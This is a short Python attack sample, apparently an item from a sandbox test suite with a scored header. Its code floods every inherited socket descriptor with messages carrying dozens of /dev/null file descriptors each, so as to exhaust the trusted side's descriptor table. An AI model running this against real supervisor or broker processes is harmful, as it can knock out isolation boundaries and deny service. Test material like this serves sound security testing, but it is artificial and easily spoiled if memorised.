"""
kind: forging
tries: Descriptors are sent along with bytes, so that the trusted side fills up with them.
deserves: q1=3 q2=2 q3=4 q4=1
plain: no
"""

import os
import socket

null = os.open("/dev/null", os.O_RDONLY)
for number in range(3, 256):
    try:
        wire = socket.socket(fileno=os.dup(number))
        wire.setblocking(False)
        for _ in range(2000):
            socket.send_fds(wire, [b"\0"], [null] * 64)
    except OSError:
        pass
